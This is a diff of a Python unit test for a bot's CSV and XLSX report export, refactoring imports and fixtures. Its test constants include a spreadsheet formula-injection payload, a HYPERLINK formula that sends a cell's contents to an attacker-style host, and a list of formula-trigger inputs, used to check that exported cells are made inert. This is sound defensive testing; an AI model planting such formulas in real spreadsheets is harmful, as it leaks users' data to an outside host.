@@ -6,7 +6,7 @@ import csv
 import io
 import zipfile
 from dataclasses import replace
-from datetime import UTC, date, datetime
+from datetime import UTC, datetime
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -15,8 +15,8 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from bot.cells import inert_csv, inert_csv_row, inert_xlsx, looks_like_formula
 from bot.reports.tables import render_csv, render_xlsx
-from storage.read_models import DivisionRef, MeasureRef, RoundInfo
 from storage.report_data import ExportRow
+from tests.unit.read_models import FIN, JANUARY, MEASURE
 
 ATTACK = '=HYPERLINK("https://evil.example/?q="&C2,"ดูหลักฐาน")'
 HOSTILE = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1"]
@@ -72,19 +72,9 @@ def test_xlsx_cells_are_explicit_strings_with_the_words_kept() -> None:
 
 
 ROW = ExportRow(
-    round=RoundInfo(
-        1,
-        1,
-        "2565-01",
-        "monthly",
-        date(2022, 1, 1),
-        date(2022, 1, 31),
-        datetime(2022, 1, 19, tzinfo=UTC),
-        datetime(2022, 1, 26, tzinfo=UTC),
-        None,
-    ),
-    measure=MeasureRef(1, 1, "มาตรการ", "Measure"),
-    division=DivisionRef(1, "FIN", "สำนักคลัง", "Finance"),
+    round=JANUARY,
+    measure=MEASURE,
+    division=FIN,
     status="done",
     text=ATTACK,
     evidence=(),
